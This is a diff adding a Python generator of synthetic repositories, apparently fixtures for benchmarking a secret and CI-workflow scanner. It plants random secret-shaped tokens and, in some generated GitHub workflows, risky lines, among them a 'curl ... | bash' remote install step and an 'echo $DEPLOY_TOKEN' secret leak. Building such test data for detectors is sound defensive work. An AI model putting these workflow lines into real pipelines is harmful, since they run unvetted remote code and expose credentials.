@@ -0,0 +1,146 @@
+from __future__ import annotations
+
+import json
+import math
+import random
+import string
+from dataclasses import asdict, dataclass
+from pathlib import Path
+
+_EXTENSIONS = (".py", ".js", ".ts", ".md", ".json", ".txt")
+_CODE_LINES = (
+    "def handler(event, context):",
+    "    return {'status': 200, 'body': event.get('body')}",
+    "const result = items.map((item) => item.value * 2);",
+    "import os, sys  # standard library only",
+    "for index in range(10): total += index",
+    "// TODO: revisar manejo de errores",
+    "if (user && user.isAdmin) { grantAccess(user); }",
+    "    logger.info('processing %s records', len(rows))",
+    "export function parse(input) { return JSON.parse(input); }",
+    "",
+)
+_WORKFLOW_BASE = (
+    "name: ci",
+    "on: [push]",
+    "jobs:",
+    "  build:",
+    "    runs-on: ubuntu-latest",
+    "    steps:",
+    "      - uses: actions/checkout@v4",
+    "      - run: python -m pytest -q",
+)
+_RISKY_WORKFLOW_LINES = (
+    "on: pull_request_target",
+    "permissions: write-all",
+    "      - run: curl -fsSL https://example.invalid/install.sh | bash",
+    "      - run: echo $DEPLOY_TOKEN",
+)
+
+
+@dataclass(frozen=True)
+class SyntheticSpec:
+    files: int = 2000
+    mean_kb: float = 4.0
+    size_sigma: float = 1.0
+    secret_density: float = 0.01
+    binary_ratio: float = 0.02
+    node_modules: int = 20
+    workflows: int = 3
+    dirs: int = 40
+    seed: int = 1
+
+    def to_dict(self) -> dict:
+        return asdict(self)
+
+
+def _random_token(rng: random.Random, alphabet: str, length: int) -> str:
+    return "".join(rng.choice(alphabet) for _ in range(length))
+
+
+def _secret_line(rng: random.Random) -> str:
+    # Values are random and shaped only to trip the built-in rules.
+    kind = rng.randrange(4)
+    if kind == 0:
+        return "aws_key = '" + "AK" + "IA" + _random_token(rng, string.ascii_uppercase + string.digits, 16) + "'"
+    if kind == 1:
+        return "token = '" + "gh" + "p_" + _random_token(rng, string.ascii_letters + string.digits, 36) + "'"
+    if kind == 2:
+        return "slack = '" + "xo" + "xb-" + _random_token(rng, string.digits, 24) + "'"
+    segments = [_random_token(rng, string.ascii_letters + string.digits, 16) for _ in range(2)]
+    return "auth_token = 'ey" + "J" + segments[0] + "." + segments[1] + "." + segments[0][::-1] + "'"
+
+
+def _text_body(rng: random.Random, size_bytes: int, secret: bool) -> str:
+    lines: list[str] = []
+    total = 0
+    while total < size_bytes:
+        line = rng.choice(_CODE_LINES)
+        lines.append(line)
+        total += len(line) + 1
+    if secret and lines:
+        lines[rng.randrange(len(lines))] = _secret_line(rng)
+    return "\n".join(lines) + "\n"
+
+
+def _file_size(rng: random.Random, spec: SyntheticSpec) -> int:
+    mean_bytes = max(1.0, spec.mean_kb * 1024)
+    if spec.size_sigma <= 0:
+        return int(mean_bytes)
+    # Lognormal with the requested mean: a few large files and many small ones, like real repos.
+    mu = math.log(mean_bytes) - spec.size_sigma**2 / 2
+    return max(1, int(rng.lognormvariate(mu, spec.size_sigma)))
+
+
+def _write(path: Path, content: str | bytes) -> int:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    data = content.encode("utf-8") if isinstance(content, str) else content
+    path.write_bytes(data)
+    return len(data)
+
+
+def generate_repo(root: Path, spec: SyntheticSpec) -> dict:
+    if spec.files < 0 or spec.node_modules < 0 or spec.workflows < 0 or spec.dirs <= 0:
+        raise ValueError("Parametros de benchmark invalidos: files/node_modules/workflows >= 0 y dirs > 0")
+    if not 0 <= spec.secret_density <= 1 or not 0 <= spec.binary_ratio <= 1:
+        raise ValueError("secret_density y binary_ratio deben estar entre 0 y 1")
+
+    rng = random.Random(spec.seed)
+    root.mkdir(parents=True, exist_ok=True)
+    summary = {"files": 0, "bytes": 0, "secrets": 0, "binary_files": 0, "ignored_files": 0}
+
+    dirs = [Path(f"pkg{index // 8}") / f"mod{index}" for index in range(spec.dirs)]
+    for index in range(spec.files):
+        directory = dirs[index % len(dirs)]
+        size = _file_size(rng, spec)
+        if rng.random() < spec.binary_ratio:
+            content: str | bytes = b"\x00" + rng.randbytes(max(0, size - 1))
+            name = directory / f"asset{index}.bin"
+            summary["binary_files"] += 1
+        else:
+            secret = rng.random() < spec.secret_density
+            summary["secrets"] += int(secret)
+            content = _text_body(rng, size, secret)
+            name = directory / f"file{index}{_EXTENSIONS[index % len(_EXTENSIONS)]}"
+        summary["bytes"] += _write(root / name, content)
+        summary["files"] += 1
+
+    for index in range(spec.workflows):
+        lines = list(_WORKFLOW_BASE)
+        if rng.random() < max(spec.secret_density * 10, 0.5):
+            lines.append(rng.choice(_RISKY_WORKFLOW_LINES))
+        summary["bytes"] += _write(root / ".github" / "workflows" / f"wf{index}.yml", "\n".join(lines) + "\n")
+        summary["files"] += 1
+
+    # Nested node_modules trees must be pruned by the walker, never read.
+    for index in range(spec.node_modules):
+        package = root / "node_modules" / f"dep{index}"
+        _write(package / "index.js", _text_body(rng, 2048, False))
+        _write(package / "node_modules" / f"inner{index}" / "index.js", _text_body(rng, 1024, False))
+        summary["ignored_files"] += 2
+
+    manifest = {"name": "synthetic", "version": "0.0.0", "dependencies": {"left-pad": "^1.3.0"}}
+    summary["bytes"] += _write(root / "package.json", json.dumps(manifest, indent=2) + "\n")
+    summary["bytes"] += _write(root / "requirements.txt", "requests>=2\nflask\n")
+    summary["files"] += 2
+    return summary